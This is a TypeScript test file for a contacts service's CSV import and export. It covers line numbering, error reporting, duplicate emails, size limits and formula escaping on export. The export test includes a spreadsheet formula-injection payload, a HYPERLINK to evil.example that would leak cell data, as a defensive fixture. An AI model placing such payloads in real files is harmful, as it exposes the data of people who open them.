import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { exportContacts } from '../../../shared/contacts/export.ts';
import { defineCustomField } from '../../../shared/contacts/fields.ts';
import { importChunk } from '../../../shared/contacts/import-rows.ts';
import {
  chunkMessages,
  createImport,
  getImport,
  listImportErrors,
  MAX_COLUMNS,
  parsePart,
  ROWS_PER_PART,
} from '../../../shared/contacts/imports.ts';
import { getContact } from '../../../shared/contacts/records.ts';
import { createContact } from '../../../shared/contacts/service.ts';
import type { TenantContext } from '../../../shared/platform/context.ts';
import { ValidationError } from '../../../shared/platform/errors.ts';
import { useTable } from '../../support/table.ts';
import { newTenant } from '../../support/tenants.ts';

beforeAll(useTable);

/** Runs what the worker runs for each queued chunk, in this process. */
async function runImport(ctx: TenantContext, importId: string) {
  for (const message of await chunkMessages(ctx, importId))
    await importChunk({ ...ctx, actor: { type: 'import', importId } }, message);
  return getImport(ctx, importId);
}

describe('CSV parts', () => {
  it('number rows by their line, multi-line cells included, and keep unreadable rows as errors', async () => {
    const rows = await parsePart('a,b\n1,"two\nlines"\n\n3,4\n5,"x"y\n');
    expect(rows.map((r) => r.line)).toEqual([1, 2, 5, 6]);
    expect(rows[1]!.cells).toEqual(['1', 'two\nlines']);
  });
});

describe('imports', () => {
  it('report broken rows with their line and column', async () => {
    const { ctx } = await newTenant();
    const started = await createImport(
      ctx,
      { dryRun: false, parts: 1 },
      'First Name,Last Name,Email,Phone\nAda,Lovelace,ada@x.example,+33612345678\nBad,Email,nope,\n',
    );
    const done = await runImport(ctx, started.id);
    const errors = await listImportErrors(ctx, started.id, { limit: 10 });
    expect(errors.items).toEqual([
      { line: 3, errors: [{ field: 'Email', message: 'Must be an email address.' }] },
    ]);
    expect(done).toMatchObject({ status: 'completed', created: 1, failed: 1 });
  });
});

describe('an import naming one email on several rows', () => {
  it('creates the contact from the first row and updates it from the next, in one chunk', async () => {
    const { ctx } = await newTenant();
    const existing = await createContact(ctx, {
      firstName: 'Grace',
      lastName: 'Hopper',
      email: 'grace@x.example',
      lifecycleStage: 'lead',
      tags: [],
    });
    const started = await createImport(
      ctx,
      { dryRun: false, parts: 1 },
      [
        'First Name,Last Name,Email,Tags',
        'Ada,Lovelace,ada@x.example,a',
        'Ada,King,ada@x.example,b',
        'Grace,Murray,grace@x.example,c',
        'Grace,Hopper,grace@x.example,d',
        '',
      ].join('\n'),
    );
    const done = await runImport(ctx, started.id);
    expect((await listImportErrors(ctx, started.id, { limit: 10 })).items).toEqual([]);
    expect(done).toMatchObject({ status: 'completed', created: 1, updated: 3, failed: 0 });
    const grace = await getContact(ctx, existing.id);
    expect(grace).toMatchObject({ lastName: 'Hopper', version: 3 });
    expect(grace.tags).toEqual(expect.arrayContaining(['c', 'd']));
  });
});

describe('an import within what the database holds', () => {
  it('reports rows too large, companies too long and numbers out of range, and imports the rest', async () => {
    const { ctx } = await newTenant();
    await defineCustomField(ctx, 'account_no', { label: 'Account number', type: 'number' }, 'create');
    const started = await createImport(
      ctx,
      { dryRun: false, parts: 1 },
      [
        'Email,First Name,Last Name,Company,Company Domain,Account number',
        'ok@x.example,Ok,Row,Acme,acme.example,42',
        `huge@x.example,${'a'.repeat(70_000)},Row,,,`,
        `company@x.example,Long,Company,${'c'.repeat(1500)},,`,
        `domain@x.example,Long,Domain,,${'d'.repeat(2100)}.com,`,
        'number@x.example,Big,Number,,,12345678901234567890',
        '',
      ].join('\n'),
    );
    const done = await runImport(ctx, started.id);
    const errors = (await listImportErrors(ctx, started.id, { limit: 10 })).items;
    expect(errors.map((e) => [e.line, e.errors.map((x) => x.field)])).toEqual([
      [3, ['row']],
      [4, ['Company']],
      [5, ['Company Domain']],
      [6, ['Account number']],
    ]);
    expect(done).toMatchObject({ status: 'completed', created: 1, failed: 4 });
  });

  it('refuses a part with more rows than one transaction can store, and a header too wide', async () => {
    const { ctx } = await newTenant();
    const rows = Array.from({ length: ROWS_PER_PART + 1 }, (_, i) => `u${i}@x.example`);
    await expect(
      createImport(ctx, { dryRun: false, parts: 1 }, ['Email', ...rows].join('\n')),
    ).rejects.toThrow(/at most 49500/);
    const wide = ['Email', ...Array.from({ length: MAX_COLUMNS }, (_, i) => `c${i}`)].join(',');
    await expect(createImport(ctx, { dryRun: false, parts: 1 }, `${wide}\na@x.example\n`)).rejects.toThrow(
      ValidationError,
    );
  });
});

describe('CSV exports', () => {
  it('write names a spreadsheet would run as formulas as text, and import back as they were', async () => {
    const { ctx } = await newTenant();
    const hostile = {
      firstName: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      lastName: '-2+3',
      tags: ['@risk'],
    };
    const contact = await createContact(ctx, {
      ...hostile,
      email: 'formula@x.example',
      lifecycleStage: 'customer',
      phones: [{ type: 'mobile', number: '+33612345678' }],
      addresses: [{ type: 'work', lines: ['=1+1', '+2 Main St'], city: 'Paris', country: 'FR' }],
    });
    const exported = await exportContacts(ctx, 'csv', []);
    const [header, row] = parse(exported.body) as string[][];
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(cell('First Name')).toBe(`'${hostile.firstName}`);
    expect(cell('Last Name')).toBe("'-2+3");
    expect(cell('Tags')).toBe("'@risk");
    expect(cell('Street')).toBe("'=1+1");
    expect(cell('Address 2')).toBe("'+2 Main St");
    // A phone number in E.164 is only a number: it cannot hide a formula and is written as it is.
    expect(cell('Mobile Phone')).toBe('+33612345678');

    const reimport = await createImport(ctx, { dryRun: false, parts: 1 }, exported.body);
    expect(await runImport(ctx, reimport.id)).toMatchObject({ status: 'completed', updated: 0, failed: 0 });
    expect(await getContact(ctx, contact.id)).toMatchObject({
      ...hostile,
      addresses: [expect.objectContaining({ lines: ['=1+1', '+2 Main St'] })],
    });
  });
});
